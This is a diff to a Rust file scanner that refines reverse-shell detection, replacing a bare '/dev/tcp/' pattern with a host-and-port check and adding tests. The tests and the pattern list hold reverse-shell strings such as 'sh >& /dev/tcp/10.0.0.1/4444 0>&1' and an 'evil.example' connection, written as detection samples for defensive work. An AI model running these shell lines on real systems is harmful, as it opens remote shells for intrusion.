@@ -14,7 +14,6 @@ const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TES
 /// `(rule, pattern, severity)`.
 const PATTERNS: &[(&str, &[u8], Severity)] = &[
     ("rules/eicar", EICAR, Severity::Malicious),
-    ("rules/reverse-shell", b"/dev/tcp/", Severity::Malicious),
     ("rules/reverse-shell", b"bash -i >&", Severity::Malicious),
     ("rules/reverse-shell", b"nc -e /bin/", Severity::Malicious),
     ("rules/reverse-shell", b"ncat -e /bin/", Severity::Malicious),
@@ -53,6 +52,23 @@ fn chunks(src: &dyn Source, mut f: impl FnMut(&[u8], u64)) -> io::Result<()> {
         off += (n - OVERLAP) as u64;
     }
     Ok(())
+}
+
+/// `/dev/tcp/HOST/PORT`, the bash redirection reverse shells use. The bare prefix is not
+/// enough: the bash binary itself contains the string `/dev/tcp/` (it implements it), so
+/// only a concrete host and port count. Returns the offset.
+fn dev_tcp(b: &[u8]) -> Option<usize> {
+    memmem::find_iter(b, b"/dev/tcp/").find(|&at| {
+        let rest = &b[at + 9..];
+        let host = rest
+            .iter()
+            .take(254)
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b':'))
+            .count();
+        host > 0
+            && rest.get(host) == Some(&b'/')
+            && rest.get(host + 1).is_some_and(|c| c.is_ascii_digit())
+    })
 }
 
 /// `curl ... | sh` on one line.
@@ -98,6 +114,13 @@ fn text_rules(ctx: &mut Ctx, src: &dyn Source, loc: &Loc, model: bool) -> io::Re
                     ),
                 ));
             }
+        }
+        if let Some(i) = dev_tcp(b) {
+            hits.push((
+                "rules/reverse-shell",
+                Severity::Malicious,
+                format!("\"/dev/tcp/HOST/PORT\" at offset {}", off + i as u64),
+            ));
         }
         if download_and_run(b) {
             let sev = if model {
@@ -171,5 +194,17 @@ mod tests {
         let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
         elf.extend([0u8; 64]);
         assert!(embedded_executable(&elf).is_some());
+    }
+}
+
+#[cfg(test)]
+mod dev_tcp_tests {
+    #[test]
+    fn needs_a_host_and_port() {
+        assert!(super::dev_tcp(b"bash -c 'sh >& /dev/tcp/10.0.0.1/4444 0>&1'").is_some());
+        assert!(super::dev_tcp(b"exec 5<>/dev/tcp/evil.example/80").is_some());
+        // What the bash binary itself contains.
+        assert!(super::dev_tcp(b"\0/dev/tcp/\0/dev/udp/\0").is_none());
+        assert!(super::dev_tcp(b"/dev/tcp/host/").is_none());
     }
 }
